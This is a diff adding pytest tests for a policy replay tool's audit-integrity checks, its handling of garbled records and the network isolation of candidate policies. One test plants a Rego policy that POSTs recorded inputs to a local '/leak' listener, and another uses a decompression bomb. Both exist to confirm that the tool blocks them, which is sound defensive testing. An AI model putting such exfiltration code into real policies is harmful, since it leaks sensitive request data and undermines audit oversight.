@@ -185,7 +185,8 @@ def test_replay_lists_exactly_what_an_incident_waiver_changes(recorded: tuple[De
     rc, report = _replay(env, cand, tmp_path, "--fail-on", "approval-waived")
     got = {c["request_id"]: set(c["kinds"]) for c in report["changes"]}
     assert got == expected
-    assert report["replayed"] == len(rows) and report["skipped"] == {"no_input": 0, "failed_closed": 0}
+    assert report["replayed"] == len(rows)
+    assert report["skipped"] == {"no_input": 0, "garbled": 0, "unknown_outcome": 0, "failed_closed": 0}
     assert rc == 1 and report["failed"] and report["failing"] == len(expected)
     assert {(g["tool"], g["principal"]) for g in report["groups"]} == {
         (c["tool"], c["principal"]) for c in report["changes"]
@@ -244,3 +245,225 @@ def test_a_verification_key_without_a_bundle_is_a_usage_error(
     assert not out and "error: --verification-key needs --bundle" in err
     with pytest.raises(ReplayError, match="needs a bundle"):  # and the library refuses it as well
         Candidate(policies=(REPO_ROOT / "policies",), verification_key=tmp_path / "k.pem")
+
+
+# --- the audit's integrity, a candidate without network, unreadable records --------------------------
+
+
+def _copy_audit(env: DevEnv, tmp_path: Path) -> Path:
+    """The recorded audit and its head key, copied so a test may damage them."""
+    src = env.config.audit_path
+    con = sqlite3.connect(src)
+    try:
+        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    finally:
+        con.close()
+    dst = tmp_path / "audit" / "audit.db"
+    dst.parent.mkdir()
+    shutil.copy(src, dst)
+    shutil.copy(env.config.audit_key_path, dst.parent / "audit-head.key")
+    return dst
+
+
+def _run_replay(db: Path, candidate: Path, tmp_path: Path, *extra: str) -> tuple[int, dict[str, Any] | None]:
+    out = tmp_path / "report.json"
+    out.unlink(missing_ok=True)
+    args = ["policy", "replay", "--db", str(db), "--principal", "rp-*", "--policies", str(candidate)]
+    rc = main([*args, "--format", "json", "-o", str(out), *extra])
+    return rc, json.loads(out.read_text()) if out.exists() else None
+
+
+def test_replay_refuses_a_tampered_audit(
+    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A deleted denial would pass a deny-to-allow gate unseen: the chain is verified first (exit 2)."""
+    env, tree = recorded
+    db = _copy_audit(env, tmp_path)
+    rc, report = _run_replay(db, tree, tmp_path, "--fail-on", "any")
+    assert rc == 0 and report is not None
+    assert report["verified"] is True and report["integrity"].startswith("audit verified: records 1..")
+    denied = [r for r in _decisions(db) if r["outcome"] == "deny"]
+    assert denied
+    gone = denied[len(denied) // 2]["seq"]
+    con = sqlite3.connect(db)
+    with con:
+        con.execute("DELETE FROM audit WHERE seq = ?", (gone,))
+    con.close()
+    capsys.readouterr()
+    # the candidate denies nothing more: without the check this gate passes on the shortened audit
+    rc, report = _run_replay(db, tree, tmp_path, "--fail-on", "deny-to-allow")
+    out, err = capsys.readouterr()
+    assert rc == 2 and report is None
+    assert f"record {gone} is missing (deleted)" in err and "audit verify" in err
+    assert "Traceback" not in out + err
+    # --no-verify replays it and says so, in every format
+    rc, report = _run_replay(db, tree, tmp_path, "--fail-on", "deny-to-allow", "--no-verify")
+    assert rc == 0 and report is not None
+    assert report["verified"] is False and "audit NOT verified" in report["integrity"]
+    args = ["policy", "replay", "--db", str(db), "--principal", "rp-*", "--policies", str(tree), "--no-verify"]
+    capsys.readouterr()
+    assert main([*args, "--engine", "eval"]) == 0
+    assert "audit NOT verified" in capsys.readouterr().out
+    md = tmp_path / "r.md"
+    assert main([*args, "--engine", "eval", "--format", "markdown", "-o", str(md)]) == 0
+    assert "audit NOT verified" in md.read_text() and "audit NOT verified" in capsys.readouterr().out
+
+
+def test_a_wrong_head_key_is_a_verification_failure(
+    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    env, tree = recorded
+    db = _copy_audit(env, tmp_path)
+    rc, report = _run_replay(db, tree, tmp_path, "--key", str(tmp_path / "absent.key"), "--engine", "eval")
+    err = capsys.readouterr().err
+    assert rc == 2 and report is None and "audit NOT verified" not in err
+    assert "error: the audit does not verify" in err and "absent.key" in err
+
+
+class _Listener:
+    """A local HTTP listener counting every request that reaches it."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.requests: list[bytes] = []
+        outer = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                outer.requests.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
+                self.send_response(200)
+                self.end_headers()
+
+            do_GET = do_POST
+
+            def log_message(self, *args: Any) -> None:
+                return None
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.mark.parametrize("engine", ["server", "eval"])
+def test_a_candidate_gets_no_network(
+    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
+) -> None:
+    """A candidate under review must not carry the recorded inputs anywhere: http.send does not compile."""
+    env, tree = recorded
+    listener = _Listener()
+    try:
+        cand = tmp_path / "candidate"
+        shutil.copytree(tree, cand)
+        (cand / "pvegate" / "leak.rego").write_text(
+            "package pvegate.leak\n\n"
+            f'sent := http.send({{"method": "POST", "url": "http://127.0.0.1:{listener.port}/leak", '
+            '"body": input, "raise_error": false})\n'
+        )
+        rego = cand / "pvegate" / "guardrails" / "guardrails.rego"
+        rego.write_text(
+            rego.read_text()
+            + '\ndenials contains lib.reason("guardrail.leak", "test", "leak") if {\n'
+            + "\tdata.pvegate.leak.sent.status_code == 999\n}\n"
+        )
+        rc, report = _run_replay(env.config.audit_path, cand, tmp_path, "--engine", engine)
+        out, err = capsys.readouterr()
+    finally:
+        listener.close()
+    assert listener.requests == []
+    assert rc == 2 and report is None and "Traceback" not in out + err
+    assert "http.send" in err and "without network access" in err
+
+
+def test_unreadable_records_are_counted_apart(
+    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Garbled inputs (or a bomb that inflates past the limit) are a warning, not "written before inputs were kept"."""
+    import base64
+    import zlib
+
+    env, tree = recorded
+    db = _copy_audit(env, tmp_path)
+    rows = _decisions(db)
+    bomb = base64.b64encode(zlib.compress(b"[" + b"0," * (1 << 20) + b"0]")).decode()
+    damaged = {
+        rows[0]["seq"]: lambda body: {**body, "input_z": "not base64!"},
+        rows[1]["seq"]: lambda body: {**body, "input_z": bomb},
+        rows[2]["seq"]: lambda body: {k: v for k, v in body.items() if k != "input_z"},  # an older record
+        rows[3]["seq"]: None,  # a body that is not JSON at all
+    }
+    con = sqlite3.connect(db)
+    with con:
+        for row in rows[:4]:
+            change = damaged[row["seq"]]
+            body = "{garbled" if change is None else json.dumps(change(json.loads(row["body"])))
+            con.execute("UPDATE audit SET body = ? WHERE seq = ?", (body, row["seq"]))
+        con.execute("UPDATE audit SET outcome = 'maybe' WHERE seq = ?", (rows[4]["seq"],))
+    con.close()
+    capsys.readouterr()
+    rc, report = _run_replay(db, tree, tmp_path, "--no-verify", "--engine", "eval")
+    out, err = capsys.readouterr()
+    assert rc == 0 and report is not None, err
+    assert report["skipped"] == {"no_input": 1, "garbled": 3, "unknown_outcome": 1, "failed_closed": 0}
+    assert report["replayed"] == len(rows) - 5 and report["changed"] == 0
+    assert "warning: 3 decision record(s) have a garbled input or body" in out
+    # the same records from an export file
+    export = tmp_path / "decisions.jsonl"
+    from gateway.store.audit import export_line
+
+    lines = []
+    con = sqlite3.connect(db)
+    con.row_factory = sqlite3.Row
+    for r in con.execute("SELECT * FROM audit WHERE kind = 'decision' AND principal LIKE 'rp-%' ORDER BY seq"):
+        row = dict(r)
+        if row["seq"] == rows[3]["seq"]:
+            continue  # an export cannot hold a body that is not JSON
+        lines.append(export_line(row))
+    con.close()
+    export.write_text("\n".join(lines) + "\n")
+    out_file = tmp_path / "export.json"
+    args = ["policy", "replay", "--export", str(export), "--principal", "rp-*", "--policies", str(tree)]
+    rc = main([*args, "--engine", "eval", "--format", "json", "-o", str(out_file)])
+    doc = json.loads(out_file.read_text())
+    assert rc == 0 and doc["skipped"] == {"no_input": 1, "garbled": 2, "unknown_outcome": 1, "failed_closed": 0}
+    assert doc["verified"] is False and doc["integrity"] == "input: an export, not verified"
+    assert "input: an export, not verified" in capsys.readouterr().out
+
+
+def test_a_file_that_is_no_audit_is_an_error_not_a_traceback(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    bad = tmp_path / "audit.db"
+    bad.write_bytes(b"this is not a database" * 100)
+    args = ["policy", "replay", "--db", str(bad), "--policies", str(REPO_ROOT / "policies"), "--engine", "eval"]
+    for extra in ([], ["--no-verify"]):
+        assert main([*args, *extra]) == 2
+        out, err = capsys.readouterr()
+        assert "error:" in err and "Traceback" not in out + err
+    export = tmp_path / "e.jsonl"
+    export.write_text('{"kind": "decision", "ts": 1, "body": "{garbled"}\n')
+    assert main(["policy", "replay", "--export", str(export), "--policies", str(REPO_ROOT / "policies")]) == 0
+    assert "garbled" in capsys.readouterr().out
+
+
+def test_records_changed_after_the_verification_are_not_replayed(recorded: tuple[DevEnv, Path], tmp_path: Path) -> None:
+    """The replay reads its own snapshot: it must hold the chain `verify` checked, up to the same head."""
+    from gateway.store.replay import Filters, Skipped, read_audit
+
+    env, _ = recorded
+    db = _copy_audit(env, tmp_path)
+    result = verify(db)
+    assert result.ok and result.last_seq is not None
+    assert len(list(read_audit(db, Filters(), Skipped(), verified=result))) >= 250
+    con = sqlite3.connect(db)
+    with con:
+        con.execute("DELETE FROM audit WHERE seq = ?", (result.last_seq // 2,))
+    con.close()
+    with pytest.raises(ReplayError, match=f"changed after it was verified: record {result.last_seq // 2} is missing"):
+        list(read_audit(db, Filters(), Skipped(), verified=result))
